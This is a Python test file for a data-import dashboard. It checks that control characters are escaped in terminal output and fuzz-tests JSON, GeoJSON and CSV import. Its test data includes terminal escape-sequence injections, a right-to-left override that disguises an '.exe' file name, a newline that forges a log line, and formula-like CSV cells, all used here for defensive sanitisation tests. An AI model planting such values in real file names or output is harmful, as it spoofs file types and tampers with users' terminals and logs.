    ("text", "shown"),
    [
        ("a\x1b]0;pwned\x07b", "a\\x1b]0;pwned\\x07b"),
        ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
        ("line\nforged: done", "line\\x0aforged: done"),
        ("\x9b31m", "\\x9b31m"),
        ("exe.\u202egnp", "exe.\\u202egnp"),
        ("مراكش café", "مراكش café"),
    ],
)
def test_terminal_text_shows_controls_as_escapes(text, shown):
    from dashboard.text import terminal_safe

    assert terminal_safe(text) == shown


def test_info_and_batches_print_file_and_dataset_names_as_text(store_copy, tmp_path, capsys):
    name = "evil\x1b]0;pwned\x07\x1b[2J.jsonl"
    path = tmp_path / name
    path.write_text(_jsonl(json.dumps({**NATIVE, "dataset": "set\x1b[31m\u202e"})))
    assert cli.main(["import", str(path), "--store", str(store_copy), "--quiet"]) == 0
    for command in (["info"], ["batches"], ["batches", "--json"], ["info", "--json"]):
        assert cli.main([*command, "--store", str(store_copy)]) == 0
        out, err = capsys.readouterr()
        for raw in ("\x1b", "\x07", "\u202e"):
            assert raw not in out + err, (command, out)
        if command == ["batches"]:
            assert "\\x1b]0;pwned" in out
        if command == ["info"]:
            assert "set\\x1b[31m\\u202e" in out


# --------------------------------------------------------------------------- generated files

FIELDS_ANY = [
    "event_id",
    "event_date",
    "end_date",
    "event_type",
    "title",
    "actors",
    "country",
    "latitude",
    "longitude",
    "fatalities",
    "sources",
    "related",
    "machine_coded",
]
json_scalar = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20)
)
#: Raw JSON text of a value: anything json.dumps writes, and what it cannot (nesting deeper
#: than Python's recursion, integers of hundreds or thousands of digits, 1e400).
json_value = (
    st.recursive(
        json_scalar, lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=5), c)
    ).map(json.dumps)
    | st.integers(min_value=1, max_value=3000).map(lambda n: "[" * n + "]" * n)
    | st.integers(min_value=1, max_value=3000).map(lambda n: '{"a":' * n + "1" + "}" * n)
    | st.integers(min_value=300, max_value=6000).map(lambda n: "9" * n)
    | st.sampled_from(
        ["1e400", "-1e400", "true", "false", '"1_0"', '"TRUE"', '"2022-W10-1"', '"a\\ud800"']
    )
)


def _imported_or_refused(path, store_path):
    """The dry run's result, or None when the file was refused whole in one sentence (a
    file of control characters is not a text file): the only three ways a file may end."""
    from dashboard import importer

    try:
        return importer.import_file(path, store_path, dry_run=True)
    except importer.ImportFailed as exc:
        assert "\n" not in str(exc) and len(str(exc)) < 400
        return None


def _generated(fmt: str, lines: list[str], raw: str) -> tuple[str, int]:
    """The file's text and its number of rows; GeoJSON also gets ``raw`` as one feature's
    geometry and as another's properties."""
    if fmt == "jsonl":
        return "\n".join(lines) + "\n", len(lines)
    if fmt == "json":
        return "[" + ",\n".join(lines) + "]", len(lines)
    features = ['{"type": "Feature", "geometry": null, "properties": ' + x + "}" for x in lines]
    features.append('{"type": "Feature", "properties": ' + lines[-1] + ', "geometry": ' + raw + "}")
    features.append('{"type": "Feature", "geometry": null, "properties": ' + raw + "}")
    return _collection(*features), len(features)


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from(["jsonl", "json", "geojson"]),
    st.lists(st.tuples(st.sampled_from(FIELDS_ANY), json_value), min_size=1, max_size=4),
)
def test_any_generated_json_file_is_imported_or_refused_by_rows(tmp_path_factory, fmt, changes):
    """Whatever values a JSON, JSON-lines or GeoJSON file holds, the import ends with each
    row stored or refused with its own problem; nothing raises."""

    folder = tmp_path_factory.mktemp("gen")
    lines = [
        _with({**NATIVE, "event_id": f"g-{i}"}, key, raw) for i, (key, raw) in enumerate(changes)
    ]
    lines.append(json.dumps({**NATIVE, "event_id": "g-last"}))
    path = folder / f"gen.{fmt}"
    text, rows = _generated(fmt, lines, changes[0][1])
    path.write_text(text, encoding="utf-8")
    result = _imported_or_refused(path, folder / "s.duckdb")
    if result is None:
        return
    assert result.rows_read == rows
    assert result.accepted + result.problems_total == rows
    assert result.accepted >= 1  # the plain last row
    assert all(len(str(p)) < 400 for p in result.problems)


csv_cell = st.text(max_size=30) | json_value | st.sampled_from(["=1+1", "'=x", "\u00a0-1"])


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(FIELDS_ANY), csv_cell), min_size=1, max_size=4))
@example(changes=[("event_id", "0\r")])  # a carriage return inside a quoted cell
def test_any_generated_csv_is_imported_or_refused_by_rows(tmp_path_factory, changes):

    folder = tmp_path_factory.mktemp("gen")
    out = io.StringIO()
    # "\r\n" ends a record, so the writer quotes a cell holding either character: a bare
    # carriage return in an unquoted cell would end the row for any CSV reader.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(FIELDS_ANY)
    plain = {**NATIVE, "sources": "https://example.org/a"}
    for i, (key, value) in enumerate(changes):
        row = {**plain, "event_id": f"g-{i}", key: value}
        writer.writerow([row.get(k, "") for k in FIELDS_ANY])
    writer.writerow([{**plain, "event_id": "g-last"}.get(k, "") for k in FIELDS_ANY])
    path = folder / "gen.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    result = _imported_or_refused(path, folder / "s.duckdb")
    if result is None:
        return
    assert result.accepted + result.problems_total == len(changes) + 1
    assert result.accepted >= 1
